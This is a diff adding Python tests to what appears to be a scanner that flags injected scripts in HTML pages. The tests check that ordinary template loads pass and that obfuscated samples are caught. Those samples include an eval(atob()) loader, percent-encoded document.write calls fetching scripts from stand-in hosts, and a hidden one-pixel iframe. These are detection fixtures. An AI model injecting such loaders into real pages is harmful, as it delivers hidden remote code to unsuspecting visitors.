@@ -319,3 +319,51 @@ def test_planted_words_and_traps_are_told(html, fields, rule):
 )  # fmt: skip
 def test_the_same_words_in_an_honest_place_are_silent(html, fields):
     assert names(html, alone=True, **fields) == set()
+
+
+PAGE = (
+    '<!DOCTYPE html><html><head><title>Tide</title><link rel="canonical" href="https://saltmarsh.example/tide/"></head>'
+    "<body>{}</body></html>"
+)
+
+
+def names_on_page(body):
+    with TemporaryDirectory() as folder:
+        path = Path(folder, "tide.html")
+        path.write_text(PAGE.format(body), "utf-8")
+        return {finding.rule for finding in run([str(path)], Settings(offline=True, jobs=1, select=("INJ",))).findings}
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<script src="https://counter-nobody-knows.example/c.js"></script>',
+        "<script>var s=document.createElement('script');s.src='//counter-nobody-knows.example/c.js';document.body.append(s)</script>",
+        "<script>document.write(unescape(\"%3Cscript src='https://counter-nobody-knows.example/c.js'%3E%3C/script%3E\"))</script>",
+        '<link rel="stylesheet" href="https://sheets.example/a.css">',
+        '<meta http-equiv="refresh" content="900;url=/session-over/">',
+    ],
+)
+def test_what_a_template_loads_is_no_part_of_the_text(html):
+    assert names_on_page(f"<div>{TEXT}</div>{html}") == set()
+    assert names_on_page(f"<main><h1>Tide</h1>{TEXT}{html}</main>") == set()
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<script src="https://203.0.113.7/c.js"></script>',
+        f"<script>eval(atob('{b64(LOADER)}'))</script>",
+        "<script>document.write(unescape('%3Cscript src=%22%68%74%74%70s://gate.example/c.js%22%3E%3C/script%3E'))</script>",
+        "<script>document.write(unescape('%3Ciframe src=%22https://gate.example/%22 width=1 height=1%3E%3C/iframe%3E'))</script>",
+    ],
+)
+def test_what_hides_is_told_wherever_it_stands(html):
+    assert names_on_page(f"<div>{TEXT}</div>{html}") == {"injected-script"}
+
+
+def test_a_library_with_a_few_escapes_hides_nothing():
+    library = "var api=(function(){var make=document.createElement('script');return make;})();" * 40
+    joke = "".join(f"\\x{ord(character):02x}" for character in "You read the source. Apply for work.")
+
+    assert names_on_page(f"<div>{TEXT}</div><script>{library}var joke='{joke}';</script>") == set()
